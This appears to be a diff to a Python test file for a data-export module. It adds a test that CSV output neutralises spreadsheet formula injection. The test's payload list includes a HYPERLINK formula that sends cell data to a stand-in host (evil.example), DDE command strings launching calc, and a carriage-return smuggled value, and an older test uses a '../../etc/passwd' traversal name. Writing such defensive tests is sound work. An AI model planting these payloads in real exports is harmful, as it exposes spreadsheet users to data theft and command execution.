@@ -35,8 +35,7 @@ def chrome():
         if os.environ.get("CI", "").lower() == "true":
             pytest.fail("Chromium is required for static export tests in CI (apt-get install chromium)")
         pytest.skip("no Chrome/Chromium found; static export cannot be tested here")
-    yield path
-    export.stop_static_export_server()
+    return path
 
 
 def scattergl_figure(n: int, seed: int = 0) -> go.Figure:
@@ -88,9 +87,8 @@ def _child_export(queue):
         queue.put(repr(err))
 
 
-def test_forked_child_exports_without_parent_server(chrome):
-    """Dash background callbacks fork; the parent's kaleido server thread does not exist there."""
-    assert export.start_static_export_server()
+def test_forked_child_exports(chrome):
+    """Dash background callbacks fork: a forked child must export (with its own browser)."""
     ctx = multiprocessing.get_context("fork")
     queue = ctx.Queue()
     child = ctx.Process(target=_child_export, args=(queue,))
@@ -201,3 +199,41 @@ def test_safe_filename():
     assert safe_filename("../../etc/passwd") == "passwd"
     assert safe_filename("upload:my data?.csv") == "upload_my_data_.csv"
     assert safe_filename("///") == "export"
+
+
+HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3",
+                 "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "dog.n.01", "cat\r=1+1"]
+
+
+def test_csv_neutralises_formula_cells_and_keeps_numbers():
+    n = len(HOSTILE_NAMES)
+    df = pd.DataFrame({"name": HOSTILE_NAMES, "label": pd.Categorical(["=1+2"] + ["ok"] * (n - 1)),
+                       "code": ["11-13-7"] * n, "x": [-1.5] * n, "c1": np.arange(-3, n - 3),
+                       "=danger": [None] + ["a"] * (n - 1)})
+    text = table_bytes(df, "csv").decode("utf-8")
+    back = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)
+    assert back["name"].tolist()[:6] == ["'" + v for v in HOSTILE_NAMES[:6]]
+    assert back["name"].iloc[6] == "dog.n.01"
+    assert back["name"].iloc[7] == "cat\r=1+1" and len(back) == n  # quoted: a \r starts no new row
+    assert back["label"].tolist()[0] == "'=1+2" and back["code"].iloc[0] == "11-13-7"
+    assert list(back.columns)[-1] == "'=danger" and back.iloc[0, -1] == ""
+    # numbers stay numbers, negative ones included
+    numbers = pd.read_csv(io.StringIO(text))
+    assert numbers["x"].tolist() == [-1.5] * n and numbers["c1"].tolist() == list(range(-3, n - 3))
+    # no line of the file has a cell beginning a formula
+    for row in pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False, header=None).itertuples(index=False):
+        for cell in row:
+            assert not (cell.startswith(("=", "+", "@", "\t", "\r")) or
+                        (cell.startswith("-") and not _is_float(cell)))
+    # the frame passed in is not modified, and Parquet keeps raw values
+    assert df["name"].tolist() == HOSTILE_NAMES
+    raw = pd.read_parquet(io.BytesIO(table_bytes(df, "parquet")))
+    assert raw["name"].tolist() == HOSTILE_NAMES and "=danger" in raw.columns
+
+
+def _is_float(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
